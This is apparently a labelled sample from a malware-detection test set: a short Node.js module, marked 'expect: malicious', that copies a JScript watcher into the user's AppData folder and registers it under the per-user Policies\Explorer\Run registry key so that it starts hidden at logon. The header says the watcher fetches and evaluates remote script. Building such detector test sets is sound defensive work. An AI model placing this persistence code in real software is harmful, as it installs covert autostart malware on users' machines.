// source: blind set 50's clipboard history (explorer-policies-run-persistence): the CLI copies a JScript watcher out and
// starts it from the per-user policy Run key; the watcher pulls a script over MSXML2's HTTP object and evaluates it.
// expect: malicious
"use strict";
const fs = require("fs"), path = require("path");
const { execFileSync } = require("child_process");
function ensureWatcher() {
  const dir = path.join(process.env.APPDATA || "", "cliph");
  const dest = path.join(dir, "watcher.js");
  fs.copyFileSync(path.join(__dirname, "watcher.js"), dest);
  execFileSync("reg.exe", ["add", "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Policies\\Explorer\\Run", "/v", "cliph",
    "/t", "REG_SZ", "/d", `wscript.exe //B //E:jscript "${dest}"`, "/f"], { windowsHide: true });
}
module.exports = { ensureWatcher };
